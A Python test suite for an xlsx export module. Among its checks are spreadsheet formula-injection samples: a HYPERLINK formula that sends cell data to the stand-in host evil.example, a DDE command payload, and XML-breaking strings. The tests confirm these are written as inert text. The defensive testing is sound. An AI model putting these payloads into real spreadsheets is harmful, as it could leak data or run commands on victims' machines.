import enum
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from export.cells import CUT_MARK, TEXT_LIMIT, Cell, Column, Kind, Tally
from export.workbook import workbook
from tests.export.reading import (
    NAMESPACE,
    as_the_format_reads,
    by_calamine,
    by_openpyxl,
    file_of,
    sheet_of,
    sheet_tree,
    texts_file,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"Mở")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "</t></is><f>1+1</f>",
    "a</t></is></c><c><f>1+1</f><is><t>",
]


class Stage(enum.StrEnum):
    WON = "thắng"


class Level(enum.IntEnum):
    TWO = 2


def test_nothing_is_an_empty_cell_and_truth_is_a_truth_value() -> None:
    columns = [Column(header=letter) for letter in "abcd"]
    sheet = by_openpyxl(file_of([[None, True, False, ""]], columns))
    assert [cell.value for cell in sheet[2]] in ([None, True, False, None], [None, True, False, ""])
    assert by_calamine(file_of([[None, True, False, "x"]], columns))[1] == ["", True, False, "x"]


def test_numbers_are_written_digit_by_digit() -> None:
    numbers: list[Cell] = [Decimal("0.1"), Decimal("-1234567890123.45"), Decimal("1E+3"), 10**20, Decimal("-0.000001")]
    file = file_of([[number] for number in numbers], [Column(header="n", kind=Kind.DECIMAL)])
    written = [node.text or "" for node in sheet_tree(file).iter(f"{NAMESPACE}v")]
    assert [Decimal(text) for text in written] == numbers


def test_a_value_of_another_kind_than_its_column_keeps_its_own_type() -> None:
    columns = [Column(header=kind, kind=kind) for kind in (Kind.TEXT, Kind.MONEY, Kind.DATE)]
    row: list[Cell] = [date(2025, 1, 2), "chưa rõ", 7]
    sheet = by_openpyxl(file_of([row], columns))
    assert [cell.value for cell in sheet[2]] == [datetime.fromisoformat("2025-01-02"), "chưa rõ", 7]
    assert [cell.number_format for cell in sheet[2]] == ["dd/mm/yyyy", "@", "General"]


def test_an_enum_member_is_written_as_its_value() -> None:
    assert by_calamine(texts_file(Stage.WON, Level.TWO))[1:] == [["thắng"], [2]]


def test_a_day_before_march_1900_which_excel_miscounts_is_written_as_text() -> None:
    days = [date(1900, 2, 28), date(1900, 3, 1), date(1, 1, 1), datetime.fromisoformat("1899-12-31 08:00")]
    rows = by_calamine(file_of([[day] for day in days], [Column(header="d", kind=Kind.DATE)]))
    assert rows[1:] == [["1900-02-28"], [date(1900, 3, 1)], ["0001-01-01"], ["1899-12-31 08:00:00"]]


MOMENTS = st.datetimes(datetime.fromisoformat("1900-03-01"), datetime.fromisoformat("9999-12-31 23:59:58"))


@settings(max_examples=25)
@given(st.lists(MOMENTS, min_size=1))
def test_a_moment_comes_back_within_a_millisecond(moments: list[datetime]) -> None:
    file = file_of([[moment] for moment in moments], [Column(header="t", kind=Kind.DATETIME)])
    for [read], moment in zip(by_openpyxl(file).iter_rows(min_row=2, values_only=True), moments, strict=True):
        assert isinstance(read, datetime)
        assert abs(read - moment) <= timedelta(milliseconds=1)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_the_same_text_and_no_formula(text: str) -> None:
    file = texts_file(text)
    assert list(sheet_tree(file).iter(f"{NAMESPACE}f")) == []
    cell = by_openpyxl(file)["A2"]
    assert (cell.value, cell.data_type, cell.number_format) == (text, "s", "@")
    assert by_calamine(file)[1] == [text]


@pytest.mark.parametrize("text", HOSTILE[:9])
def test_what_would_be_a_formula_if_typed_stays_text_when_edited(text: str) -> None:
    assert by_openpyxl(texts_file(text))["A2"].quotePrefix


def test_a_plain_text_shows_no_quote_when_edited() -> None:
    assert not by_openpyxl(texts_file("Nguyễn = Ánh"))["A2"].quotePrefix


def test_a_hostile_header_or_title_is_no_formula_either() -> None:
    file = file_of([["x"]], [Column(header='=HYPERLINK("http://evil.example")')], title="=1+1")
    assert list(sheet_tree(file).iter(f"{NAMESPACE}f")) == []
    assert by_openpyxl(file)["A1"].data_type == "s"


@settings(max_examples=40)
@given(st.lists(st.text(max_size=40), min_size=1))
def test_any_text_comes_back_by_the_rule_of_the_format(texts: list[str]) -> None:
    lawful = [re.sub("[\ufffe\uffff]", "\ufffd", text) for text in texts]
    file = texts_file(*texts, "end")
    assert as_the_format_reads(file) == [*lawful, "end"]
    assert [row[0] for row in by_calamine(file)[1:]] == [*lawful, "end"]


PIECES_OF_ESCAPES = ["_", "x", "X", "0", "a", "_x0041_", "_x005F_", "\0", "\r", "\n", "&", "<", "]]>"]


@settings(max_examples=40)
@given(st.lists(st.lists(st.sampled_from(PIECES_OF_ESCAPES)).map("".join)))
def test_what_looks_like_an_escape_comes_back_as_it_was(texts: list[str]) -> None:
    assert as_the_format_reads(texts_file(*texts)) == texts


def test_half_a_surrogate_pair_becomes_the_replacement_character() -> None:
    assert by_calamine(texts_file("a\ud83d", "\ude00b"))[1:] == [["a\ufffd"], ["\ufffdb"]]


def test_a_text_that_fills_a_cell_is_whole() -> None:
    tally = Tally()
    text = "😀" * (TEXT_LIMIT // 2) + "x"
    file = b"".join(workbook(sheet_of([[text]], [Column(header="t")]), tally=tally))
    assert by_calamine(file)[1] == [text]
    assert tally.cut == 0


@pytest.mark.parametrize("text", ["x" * (TEXT_LIMIT + 1), "x" + "😀" * TEXT_LIMIT])
def test_a_text_too_long_for_a_cell_ends_in_a_mark_and_is_counted(text: str) -> None:
    tally = Tally()
    file = b"".join(workbook(sheet_of([[text], ["y"], [text]], [Column(header="t")]), tally=tally))
    shown = by_calamine(file)[1][0]
    assert shown.endswith(CUT_MARK)
    assert text.startswith(shown.removesuffix(CUT_MARK))
    assert TEXT_LIMIT - 1 <= len(shown.encode("utf-16-le")) // 2 <= TEXT_LIMIT
    assert tally.cut == 2


ODD: list[tuple[Any, str]] = [
    (Decimal("NaN"), "NaN"),
    (Decimal("-Infinity"), "-Infinity"),
    (Decimal("1E+400"), "1E+400"),
    (10**308, "1.00000000000000000000E+308"),
    (-(10**5000), "-1.00000000000000000000E+5000"),
    (float("nan"), "nan"),
    (datetime(2025, 1, 1, tzinfo=UTC), "2025-01-01 00:00:00+00:00"),
    (b"bytes", "b'bytes'"),
    (["=1+1"], "['=1+1']"),
]


def test_values_that_no_cell_can_have_are_told_as_texts_and_do_no_harm_to_the_file() -> None:
    tally, columns = Tally(), [Column(header="n", kind=Kind.MONEY), Column(header="t")]
    rows: list[list[Any]] = [[value, "fine"] for value, _ in ODD]
    file = b"".join(workbook(sheet_of([*rows, [0.25, "\ud800"]], columns), tally=tally))
    assert by_calamine(file)[1:] == [*([told, "fine"] for _, told in ODD), [0.25, "\ufffd"]]
    assert {by_openpyxl(file).cell(2 + place, 1).data_type for place in range(len(ODD))} == {"s"}
    assert (tally.odd, tally.rows) == (len(ODD), len(ODD) + 1)
